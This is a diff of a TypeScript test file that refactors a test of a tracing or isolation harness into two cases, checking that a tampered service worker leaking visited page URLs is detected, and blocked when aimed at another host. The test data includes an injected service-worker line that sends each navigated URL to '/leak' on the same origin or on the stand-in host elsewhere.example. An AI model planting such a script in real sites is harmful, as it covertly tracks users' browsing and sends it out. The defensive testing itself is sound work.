@@ -222,19 +222,24 @@ describe("the trace", () => {
     expect([...lamps.outside, ...kitchen.outside]).toEqual([]);
   });
 
-  it("[O3] a planted leak in the service worker is caught; to another host it is blocked", async () => {
-    const onEveryNavigation = (to: string) =>
-      prepend(
-        "service-worker",
-        `addEventListener("fetch",({request})=>{if(request.mode==="navigate")fetch("${to}/leak?"+encodeURIComponent(request.url)).catch(()=>{})});`,
-      );
-    shop.tamper(onEveryNavigation(""));
+  /** A service worker that tells somebody which page is opened. */
+  const tellingWorker = (to: string): Tamper =>
+    prepend(
+      "service-worker",
+      `addEventListener("fetch",({request})=>{if(request.mode==="navigate")fetch("${to}/leak?"+encodeURIComponent(request.url)).catch(()=>{})});`,
+    );
+
+  it("[O3] a planted leak in the service worker is caught", async () => {
+    shop.tamper(tellingWorker(""));
     const [one, other] = [await visitWithCopy(histories[0], 1, 3, 3), await visitWithCopy(histories[1], 1, 3, 3)];
     expect(differences(one.trace, other.trace).length).toBeGreaterThan(0);
-    shop.tamper(onEveryNavigation("http://elsewhere.example"));
-    const [far, away] = [await visitWithCopy(histories[0], 1, 3, 3), await visitWithCopy(histories[1], 1, 3, 3)];
-    expect(differences(far.trace, away.trace)).toEqual([]);
-    expect([...far.outside, ...away.outside]).toEqual([]);
+  });
+
+  it("[N4] [O3] a planted leak in the service worker to another host is blocked", async () => {
+    shop.tamper(tellingWorker("http://elsewhere.example"));
+    const [one, other] = [await visitWithCopy(histories[0], 1, 3, 3), await visitWithCopy(histories[1], 1, 3, 3)];
+    expect(differences(one.trace, other.trace)).toEqual([]);
+    expect([...one.outside, ...other.outside]).toEqual([]);
   });
 
   /** On every step, code that tells somebody what is looked at. `WHAT` stands for it. */
